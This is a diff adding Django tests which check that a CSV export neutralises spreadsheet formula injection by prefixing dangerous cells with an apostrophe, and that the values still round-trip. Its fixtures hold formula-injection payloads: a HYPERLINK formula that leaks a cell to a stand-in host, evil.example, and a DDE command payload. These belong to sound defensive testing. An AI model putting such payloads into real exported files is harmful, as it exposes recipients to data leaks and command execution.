@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 import json
 import tempfile
@@ -8,7 +9,7 @@ from pathlib import Path
 from django.core.management import CommandError, call_command
 from django.test import TestCase
 
-from integrations import registry
+from integrations import registry, transfer
 from integrations.models import ApprovedUser, DicomWebServer, Institution
 
 
@@ -159,3 +160,89 @@ class ApprovedUsersCsvTests(TestCase):
         self.assertIn("Line 3: “x” is not a server id.", str(caught.exception))
         self.assertIn("Line 4: “bad” is not a valid email", str(caught.exception))
         self.assertFalse(ApprovedUser.objects.filter(email="new@example.org").exists())
+
+
+class CsvExportNeutralisesFormulas(TestCase):
+    """A cell a spreadsheet would run as a formula gets a leading apostrophe;
+    the importers drop exactly that, so every value comes back as it was."""
+
+    @classmethod
+    def setUpTestData(cls) -> None:
+        institution = Institution.objects.create(
+            name='=HYPERLINK("https://evil.example/?x="&A1,"click")'
+        )
+        cls.pacs = DicomWebServer.objects.create(
+            institution=institution,
+            name="+cmd|' /C calc'!A0",
+            qido_url="https://pacs.example/dicomweb",
+            wado_url="https://pacs.example/dicomweb",
+        )
+        cls.emails = [
+            "=hyperlink@example.org",
+            "+1@example.org",
+            "-minus@example.org",
+            "'quoted@example.org",
+            "plain@example.org",
+        ]
+        registry.add_approved_users(cls.pacs, cls.emails)
+
+    def rows(self) -> list[list[str]]:
+        return list(csv.reader(io.StringIO(export("--format", "csv"))))[1:]
+
+    def test_no_exported_cell_starts_a_formula(self) -> None:
+        for row in self.rows():
+            for cell in row:
+                self.assertFalse(cell.startswith(transfer.FORMULA_STARTS), cell)
+        institution, server = self.rows()[0][1:3]
+        self.assertEqual(
+            institution, '\'=HYPERLINK("https://evil.example/?x="&A1,"click")'
+        )
+        self.assertEqual(server, "'+cmd|' /C calc'!A0")
+
+    def test_tab_carriage_return_and_at_are_neutralised_too(self) -> None:
+        for value in ["\tx", "\rx", "@SUM(A1)", "-2+3", "'already"]:
+            with self.subTest(value=value):
+                self.assertEqual(transfer.csv_cell(value), "'" + value)
+                self.assertEqual(transfer.csv_value(transfer.csv_cell(value)), value)
+        self.assertEqual(transfer.csv_cell("ordinary"), "ordinary")
+        self.assertEqual(transfer.csv_cell(7), "7")
+
+    def test_undoing_the_guard_gives_back_every_value_exactly(self) -> None:
+        exported = {
+            (
+                transfer.csv_value(row[1]),
+                transfer.csv_value(row[2]),
+                transfer.csv_value(row[3]),
+            )
+            for row in self.rows()
+        }
+        self.assertEqual(
+            exported,
+            {(self.pacs.institution.name, self.pacs.name, e) for e in self.emails},
+        )
+
+    def test_the_csv_import_round_trip_is_identical(self) -> None:
+        document = export("--format", "csv")
+        ApprovedUser.objects.all().delete()
+        import_file(document, "--format", "csv")
+        self.assertEqual(
+            sorted(self.pacs.approved_users.values_list("email", flat=True)),
+            sorted(self.emails),
+        )
+
+    def test_import_approved_users_reads_the_export_too(self) -> None:
+        document = export("--format", "csv")
+        ApprovedUser.objects.all().delete()
+        with tempfile.TemporaryDirectory() as tmp:
+            path = Path(tmp) / "export.csv"
+            path.write_text(document, encoding="utf-8")
+            call_command(
+                "import_approved_users",
+                str(self.pacs.pk),
+                str(path),
+                stdout=io.StringIO(),
+            )
+        self.assertEqual(
+            sorted(self.pacs.approved_users.values_list("email", flat=True)),
+            sorted(self.emails),
+        )
